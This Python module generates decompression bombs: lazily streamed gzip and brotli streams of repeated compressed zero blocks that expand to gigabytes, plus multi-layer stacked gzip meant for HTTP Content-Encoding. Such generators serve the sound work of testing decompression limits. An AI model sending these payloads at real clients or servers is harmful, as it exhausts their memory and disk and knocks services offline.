"""Decompression bombs built cheaply: one compressed block of zeros, repeated.

After a full flush a compressor's output for the same input block is identical, so a stream
decompressing to `total` bytes is header + the same block N times + a valid ending; it costs
one block's compression, and is produced lazily, so nothing big is ever held in memory.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

import brotli  # type: ignore[import-untyped]

BLOCK = 1 << 20
GIB = 1 << 30


def gzip_bomb(total: int = GIB) -> Iterator[bytes]:
    """A gzip stream of `total` zero bytes (total a multiple of 1 MiB), yielded lazily."""
    zeros = bytes(BLOCK)
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    yield first
    for _ in range(total // BLOCK - 1):
        yield repeated
    crc = 0
    for _ in range(total // BLOCK):
        crc = zlib.crc32(zeros, crc)
    yield b"\x03\x00" + struct.pack("<II", crc, total & 0xFFFFFFFF)  # empty final block + trailer


def brotli_bomb(total: int = GIB) -> Iterator[bytes]:
    """A brotli stream of `total` zero bytes (total a multiple of 1 MiB), yielded lazily."""
    zeros = bytes(BLOCK)
    compressor = brotli.Compressor(quality=1)
    first = compressor.process(zeros) + compressor.flush()
    repeated = compressor.process(zeros) + compressor.flush()
    yield first
    for _ in range(total // BLOCK - 1):
        yield repeated
    yield compressor.finish()


def batched(stream: Iterator[bytes], size: int = 64 * 1024) -> Iterator[bytes]:
    """Regroup small pieces into writes of about `size` bytes."""
    buffer = bytearray()
    for piece in stream:
        buffer += piece
        if len(buffer) >= size:
            yield bytes(buffer)
            buffer.clear()
    if buffer:
        yield bytes(buffer)


def stacked_gzip(total: int = GIB, layers: int = 2) -> bytes:
    """`total` zero bytes gzipped `layers` times (Content-Encoding: gzip, gzip...).

    The inner bomb is about total/1000 bytes and highly repetitive, so every further layer
    shrinks it again: a 1 GiB double-gzip bomb is a few tens of kilobytes.
    """
    data = b"".join(gzip_bomb(total))
    for _ in range(layers - 1):
        compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
        data = compressor.compress(data) + compressor.flush()
    return data
